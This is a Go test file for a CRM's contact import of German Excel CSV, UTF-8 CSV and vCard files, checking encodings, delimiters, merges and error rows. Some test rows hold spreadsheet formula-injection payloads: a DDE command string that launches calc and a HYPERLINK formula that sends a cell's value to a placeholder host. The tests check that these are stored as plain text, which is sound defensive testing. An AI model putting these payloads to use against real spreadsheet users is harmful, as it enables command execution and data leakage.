package importing_test

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/rapport-crm/rapport/crm"
	"github.com/rapport-crm/rapport/db"
	"github.com/rapport-crm/rapport/db/dbtest"
	"github.com/rapport-crm/rapport/ent/importrow"
)

func handles(in crm.ContactInput) []string {
	var out []string
	for _, c := range in.Channels {
		out = append(out, c.Platform+"/"+c.Handle)
	}
	slices.Sort(out)
	return out
}

func outlets(in crm.ContactInput) []string {
	var out []string
	for _, o := range in.Outlets {
		out = append(out, o.Outlet)
	}
	return out
}

// TestGermanExcelCSV: Windows-1252, ";", CRLF, quoted cells with ";", '"'
// and a line break; row 7 repeats row 2 and merges into it.
func TestGermanExcelCSV(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		u := staff(t, d)
		j := upload(t, d, u, "excel-de-windows1252.csv", testFile(t, "excel-de-windows1252.csv"), nil)
		if j.Encoding != "windows-1252" || j.Delimiter != ";" {
			t.Errorf("detected %s %q, want windows-1252 ;", j.Encoding, j.Delimiter)
		}
		dry := dryRun(t, d, j.ID)
		if dry.Created != 5 || dry.Merged != 1 || dry.Errors != 0 {
			t.Errorf("dry run %+v, want 5 created, 1 merged", dry)
		}
		if n := d.Client.Contact.Query().CountX(ctx); n != 0 {
			t.Fatalf("dry run wrote %d contacts", n)
		}
		j = run(t, d, j.ID)
		if j.Status != "done" || j.ProcessedRows != 6 || j.CreatedCount != 5 {
			t.Errorf("job %s processed %d created %d, want done 6 5", j.Status, j.ProcessedRows, j.CreatedCount)
		}
		if n := d.Client.Contact.Query().CountX(ctx); n != 5 {
			t.Fatalf("%d contacts, want 5", n)
		}
		jm := contactByEmail(t, d, "j.mueller@sueddeutsche-beispiel.de")
		if jm.FirstName != "Jürgen" || jm.LastName != "Müller-Lüdenscheidt" || jm.City != "München" {
			t.Errorf("Jürgen: %+v", jm)
		}
		if !strings.Contains(jm.Bio, "Mag Hintergrundgespräche; keine Anrufe vor 10 Uhr") || !strings.Contains(jm.Bio, "Dublette") {
			t.Errorf("Jürgen's notes: %q", jm.Bio)
		}
		if h := handles(jm); !slices.Equal(h, []string{"x/jmueller_sz"}) {
			t.Errorf("Jürgen's handles %v", h)
		}
		if !slices.Equal(outlets(jm), []string{"Süddeutsche Beispielzeitung"}) || !slices.Equal(jm.Topics, []string{"Gesundheit"}) {
			t.Errorf("Jürgen's outlets %v topics %v", outlets(jm), jm.Topics)
		}
		anja := contactByEmail(t, d, "anja.weiss@techblog-beispiel.de")
		if anja.LastName != "Weiß" || anja.Bio != `Bloggerin, schreibt über "Datenschutz" und KI` || !slices.Equal(handles(anja), []string{"x/anjaweiss"}) {
			t.Errorf("Anja: %+v", anja)
		}
		oz := contactByEmail(t, d, "oezlem@beispiel-podcast.de")
		if oz.FirstName != "Özlem" || oz.Bio != "Erste Zeile\nzweite Zeile mit Umbruch" || outlets(oz)[0] != "Gesundheit & Du (Podcast)" {
			t.Errorf("Özlem: %+v", oz)
		}
		fd := contactByEmail(t, d, "f.dubois@beispiel-magazin.fr")
		if fd.FirstName != "François" || fd.LastName != "Dubois-Ærø" || fd.City != "Köln" ||
			fd.Bio != `=HYPERLINK("http://beispiel.invalid/?x="&A1;"klick")` || len(fd.Phones) != 1 || fd.Phones[0].Number != "-5" {
			t.Errorf("François: %+v", fd)
		}
		gs := contactByEmail(t, d, "gruesse@beispiel.de")
		if gs.FirstName != "Grüße" || gs.LastName != "Straße" || gs.Bio != "Preis: 1.234,56 €" || !slices.Equal(handles(gs), []string{"x/strasse"}) {
			t.Errorf("Grüße: %+v", gs)
		}
		merged := d.Client.ImportRow.Query().Where(importrow.ImportID(j.ID), importrow.DryRun(false), importrow.RowNo(7)).OnlyX(ctx)
		if merged.Action != importrow.ActionMerged || !strings.Contains(merged.Reason, "row 2") {
			t.Errorf("row 7: %s %q", merged.Action, merged.Reason)
		}
		// The same file again changes nothing.
		j2 := upload(t, d, u, "again.csv", testFile(t, "excel-de-windows1252.csv"), nil)
		if c := dryRun(t, d, j2.ID); c.Created+c.Updated+c.Merged+c.Errors != 0 || c.Unchanged != 6 {
			t.Errorf("re-import dry run %+v, want 6 unchanged", c)
		}
	})
}

// TestExcelUTF8BOM: BOM, ",", English headers, multi-value tags, CJK, Arabic,
// Turkish, an attack row stored as text, a follower count that is no number.
func TestExcelUTF8BOM(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		u := staff(t, d)
		j := upload(t, d, u, "excel-utf8-bom.csv", testFile(t, "excel-utf8-bom.csv"), nil)
		if j.Mapping["First Name"] != "first_name" || j.Mapping["Email"] != "email" || j.Mapping["Beat"] != "topics" {
			t.Errorf("mapping %v", j.Mapping)
		}
		j = run(t, d, j.ID)
		if j.CreatedCount != 5 || j.ErrorCount != 0 {
			t.Fatalf("created %d errors %d, want 5 0", j.CreatedCount, j.ErrorCount)
		}
		oz := contactByEmail(t, d, "oezlem@beispiel-podcast.de")
		if oz.FirstName != "Özlem" || oz.LastName != "Şahin" || !slices.Equal(oz.Tags, []string{"podcast", "health"}) {
			t.Errorf("Özlem: %+v", oz)
		}
		if h := handles(oz); !slices.Equal(h, []string{"instagram/oezlem.health", "youtube/oezlemhealth"}) {
			t.Errorf("Özlem's channels %v", h)
		}
		if oz.Channels[0].Followers != 48200 {
			t.Errorf("Özlem's followers %+v", oz.Channels)
		}
		li := contactByEmail(t, d, "li.wei@example-tech.cn")
		if li.LastName != "Wei (魏丽)" || !slices.Equal(handles(li), []string{"youtube/liweitech"}) || li.Channels[0].Followers != 1250000 ||
			!slices.Equal(li.Tags, []string{"tech", "video"}) {
			t.Errorf("Li Wei: %+v", li)
		}
		nour := contactByEmail(t, d, "nour@example-blog.ae")
		if nour.LastName != "الحسيني" || outlets(nour)[0] != "مدونة مثال" {
			t.Errorf("Nour: %+v", nour)
		}
		evil := contactByEmail(t, d, "evil@example.invalid")
		if evil.FirstName != "@evil" || evil.LastName != "+SUM(1,2)" || outlets(evil)[0] != "-2+3" || evil.City != "@city" ||
			!slices.Equal(evil.Topics, []string{"=1+1"}) || !slices.Equal(evil.Tags, []string{"=cmd|' /C calc'!A0"}) {
			t.Errorf("attack row: %+v", evil)
		}
		row := d.Client.ImportRow.Query().Where(importrow.ImportID(j.ID), importrow.RowNo(5)).OnlyX(ctx)
		if !strings.Contains(row.Reason, "not-a-number") {
			t.Errorf("attack row reason %q, want a warning on the follower count", row.Reason)
		}
	})
}

// TestVCard: 3.0 with Apple groups and a folded, escaped NOTE; 4.0 with two
// typed e-mails and categories; 2.1 quoted-printable with a soft line break;
// a last card without END:VCARD reported as an error.
func TestVCard(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		u := staff(t, d)
		j := upload(t, d, u, "contacts.vcf", testFile(t, "contacts.vcf"), nil)
		j = run(t, d, j.ID)
		if j.CreatedCount != 3 || j.ErrorCount != 1 || j.ProcessedRows != 4 {
			t.Fatalf("created %d errors %d processed %d, want 3 1 4", j.CreatedCount, j.ErrorCount, j.ProcessedRows)
		}
		jm := contactByEmail(t, d, "j.mueller@sueddeutsche-beispiel.de")
		if jm.FirstName != "Jürgen" || jm.LastName != "Müller-Lüdenscheidt" || jm.Title != "Redakteur" || jm.City != "München" || jm.Country != "DE" ||
			jm.Bio != "Lange Notiz über Hintergrundgespräche, die über mehrere Zeilen gefaltet wird und ein Komma sowie ein Semikolon; enthält." ||
			!slices.Equal(handles(jm), []string{"x/jmueller_sz"}) || outlets(jm)[0] != "Süddeutsche Beispielzeitung" ||
			len(jm.Phones) != 1 || jm.Phones[0].Number != "+49 89 2183 0" {
			t.Errorf("Jürgen: %+v", jm)
		}
		anja := contactByEmail(t, d, "anja.weiss@techblog-beispiel.de")
		if anja.LastName != "Weiß" || len(anja.Emails) != 2 || anja.Emails[1].Address != "anja@privat-beispiel.de" || anja.Emails[1].Type != "private" ||
			!slices.Equal(anja.Tags, []string{"IT", "Bloggerin", "Datenschutz"}) ||
			!slices.Equal(handles(anja), []string{"blog/techblog-beispiel.de", "instagram/anja.weiss"}) {
			t.Errorf("Anja: %+v", anja)
		}
		oz := contactByEmail(t, d, "oezlem@beispiel-podcast.de")
		if oz.FirstName != "Özlem" || oz.LastName != "Şahin" || oz.Bio != "Podcasterin aus Hamburg, spricht über Gesundheit und Ernährung." {
			t.Errorf("Özlem: %+v", oz)
		}
		bad := d.Client.ImportRow.Query().Where(importrow.ImportID(j.ID), importrow.ActionEQ(importrow.ActionError)).OnlyX(ctx)
		if bad.RowNo != 4 || !strings.Contains(bad.Reason, "END:VCARD") || !slices.Contains(bad.Raw, "ohne.ende@example.invalid") {
			t.Errorf("card 4: row %d %q %v", bad.RowNo, bad.Reason, bad.Raw)
		}
	})
}
